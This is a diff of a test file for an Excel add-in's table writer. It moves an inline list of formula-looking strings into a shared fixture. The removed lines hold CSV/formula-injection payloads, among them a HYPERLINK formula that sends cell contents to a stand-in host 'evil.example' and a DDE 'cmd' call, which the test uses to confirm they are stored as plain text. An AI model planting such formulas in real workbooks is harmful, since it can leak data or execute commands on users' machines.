@@ -10,6 +10,7 @@ import { project, DEFAULT_ASSUMPTIONS, type Assumptions } from "../../src/core/p
 import { writeScenarioSheet } from "../../src/taskpane/scenarioWriter";
 import { DEFAULT_TARGET_VALUES } from "../../src/taskpane/targets";
 import { formula, WorkbookError, type CellValue } from "../../src/workbook/types";
+import { FORMULA_LOOKING_TEXT } from "../support/hostileText";
 import { ExcelMock, officeError, PAYLOAD_LIMIT } from "./excelMock";
 
 // office-addin-mock asks office-addin-manifest which host it mocks; the shared stub is empty.
@@ -206,23 +207,7 @@ describe("writeTable", () => {
   });
 
   it("writes text as text however it looks, and formulas only where asked", async () => {
-    const hostile = [
-      '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
-      "=cmd|' /C calc'!A0",
-      "+5 ASYE",
-      "-3 agency",
-      "@SUM(A1)",
-      "1/2",
-      "007",
-      "TRUE",
-      "#N/A",
-      "'quoted",
-      "2026-01",
-      "5%",
-      "10:30",
-      "Jan 2026",
-      "=1+1 (text)",
-    ];
+    const hostile = FORMULA_LOOKING_TEXT;
     const excel = new ExcelMock({ sheets: ["Labels"] });
     await createExcelWorkbook(excel.run).writeTable("Labels", {
       name: "Labels",
